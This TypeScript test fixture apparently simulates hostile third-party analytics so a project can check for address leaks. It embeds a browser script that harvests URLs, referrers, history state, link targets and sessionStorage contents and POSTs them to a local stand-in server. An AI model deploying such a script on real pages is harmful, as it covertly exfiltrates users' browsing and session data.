import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

/** Stand-ins for measurers that take all they can read of addresses, again and again. */
export interface HostileMeasurers {
  origin: string
  /** What was sent to them, headers included. */
  heard: readonly string[]
  stop: () => Promise<void>
}

/** Between two looks at the page, ms. */
const lookEvery = 20

/** Reads every place where a page may find an address, and sends what it has not sent before. */
const script = `{
  const told = new Set();
  const look = () => {
    const found = [
      location.href, document.URL, document.referrer, document.title, JSON.stringify(history.state),
      ...performance.getEntriesByType('navigation').map(({ name }) => name),
      ...(self.navigation?.entries() ?? []).map(({ url }) => url),
      ...[...document.querySelectorAll('a')].map(({ href }) => href),
      ...Object.entries(sessionStorage).flat(),
      JSON.stringify(self.dataLayer ?? []),
    ].filter((one) => one && !told.has(one));
    for (const one of found) told.add(one);
    if (found.length > 0) fetch('__ORIGIN__/seen', { method: 'POST', mode: 'no-cors', keepalive: true, body: found.join('\\n') });
  };
  setInterval(look, ${lookEvery});
  for (const sign of ['popstate', 'hashchange', 'pagehide', 'click']) addEventListener(sign, look, true);
  for (const name of ['pushState', 'replaceState']) {
    const own = history[name].bind(history);
    history[name] = (state, title, href) => { told.add(''); own(state, title, href); look(); };
  }
  self.navigation?.addEventListener('navigate', ({ destination }) =>
    fetch('__ORIGIN__/seen', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'to ' + destination.url }));
  look();
}`

export async function startHostileMeasurers(): Promise<HostileMeasurers> {
  const heard: string[] = []
  let origin = ''
  const server = createServer(async (request, response) => {
    const body: Buffer[] = []
    for await (const chunk of request) body.push(chunk as Buffer)
    heard.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}\n${Buffer.concat(body)}`)
    const isScript = request.method === 'GET'
    response.writeHead(isScript ? 200 : 204, { 'content-type': 'text/javascript' })
    response.end(isScript ? script.replaceAll('__ORIGIN__', origin) : '')
  })
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready))
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  return {
    origin,
    heard,
    stop: () =>
      new Promise((done) => {
        server.closeAllConnections()
        server.close(() => done())
      }),
  }
}
